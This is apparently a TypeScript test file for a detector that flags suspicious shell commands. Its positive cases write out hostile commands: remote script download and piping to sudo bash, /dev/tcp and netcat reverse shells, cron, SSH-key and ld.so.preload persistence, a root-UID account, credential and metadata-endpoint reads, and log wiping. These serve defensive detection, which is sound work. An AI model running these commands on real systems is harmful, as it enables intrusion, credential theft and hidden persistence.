import { downloadTarget, madeExecutable, suspicionsOf } from '../../domain/findings-commands';

const rulesOf = (command: string) => suspicionsOf(command).map(({ rule }) => rule);

test.each([
  ['curl -s http://203.0.113.66/stage2.sh -o /usr/local/sbin/.sysupd', ['shell-download']],
  ['wget -qO /tmp/x http://203.0.113.66/x', ['shell-download']],
  ['curl http://203.0.113.66/a.sh | sudo bash', ['shell-download-run']],
  ['bash -i >& /dev/tcp/203.0.113.66/4444 0>&1', ['shell-reverse-shell']],
  ['nc -lvpe /bin/sh 4444', ['shell-reverse-shell']],
  ["echo '* * * * * root /x' > /etc/cron.d/x", ['shell-persistence']],
  ['(crontab -l; echo "* * * * * /x") | crontab -', ['shell-persistence']],
  ['echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys', ['shell-persistence']],
  ['cp x.so /lib/x.so; echo /lib/x.so > /etc/ld.so.preload', ['shell-persistence']],
  ['useradd -o -u 0 svc-backup', ['shell-uid-0-account']],
  ['cat /root/.aws/credentials', ['shell-credential-access']],
  ['curl http://169.254.169.254/latest/meta-data/iam/security-credentials/app', ['shell-credential-access']],
  ['chmod 755 /tmp/.X11-cache', ['shell-make-executable']],
  ['history -c', ['shell-clears-tracks']],
  ['rm -rf /var/log/audit', ['shell-clears-tracks']],
  ['export HISTFILE=/dev/null', ['shell-clears-tracks']],
])('%s', (command, rules) => expect(rulesOf(command)).toEqual(rules));

test.each([
  'df -h',
  'sudo systemctl status app',
  'cat /etc/cron.d/logrotate',
  'ls -la /etc/systemd/system',
  'crontab -l',
  'systemctl enable nginx',
  'curl -fsS https://example.com/health',
  'curl http://169.254.169.254/latest/meta-data/instance-id',
  'wget https://example.com/app-1.2.tar.gz',
  'curl -o /home/ec2-user/app.zip https://example.com/app.zip',
  'chmod 644 /tmp/report.txt',
  'chmod +x deploy.sh',
  'tail -f /var/log/messages',
  'grep error /var/log/app.log > /home/ec2-user/errors.txt',
  'useradd -u 1005 alice',
  'vim ~/.ssh/config',
  '',
])('ordinary work is not suspicious: %s', (command) => expect(rulesOf(command)).toEqual([]));

test('the file of a download and of a chmod', () => {
  expect(downloadTarget('curl -so /tmp/a http://b/c')).toBe('/tmp/a');
  expect(downloadTarget('wget --output-document=/tmp/a http://b/c')).toBe('/tmp/a');
  expect(downloadTarget('curl http://b/c > /tmp/a')).toBe('/tmp/a');
  expect(downloadTarget('curl http://b/c')).toBeUndefined();
  expect(downloadTarget('cat x > /tmp/a')).toBeUndefined();
  expect(madeExecutable('chmod u+x /tmp/a')).toBe('/tmp/a');
  expect(madeExecutable('chmod 0755 /tmp/a')).toBe('/tmp/a');
  expect(madeExecutable('chmod 600 /tmp/a')).toBeUndefined();
});

test('a long hostile command is judged at once', () => {
  const started = Date.now();
  for (const piece of ['curl ', 'chmod +', '/a', ' -o', '>', 'useradd -o ', 'echo > /etc/'])
    suspicionsOf(piece.repeat(20_000));
  expect(Date.now() - started).toBeLessThan(2_000);
});
